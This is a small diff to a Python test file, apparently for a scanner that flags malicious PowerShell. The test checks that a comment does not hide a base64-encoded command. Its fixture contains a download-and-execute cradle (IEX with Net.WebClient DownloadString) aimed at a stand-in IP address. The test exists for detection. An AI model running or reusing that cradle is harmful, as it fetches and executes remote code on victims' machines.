@@ -274,5 +274,5 @@ def test_scripts_with_commas_or_comments_are_read(text: str):
 def test_a_comment_in_another_script_does_not_hide_an_encoded_command(comment: str):
     command = f"# {comment}, ok\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
     encoded = base64.b64encode(command.encode("utf-16-le")).decode()
-    found = [item for item in inspect(f"powershell -EncodedCommand {encoded}\n", source="run.ps1")]
+    found = inspect(f"powershell -EncodedCommand {encoded}\n", source="run.ps1")
     assert any("malicious" in item.title for item in found if isinstance(item, Finding))
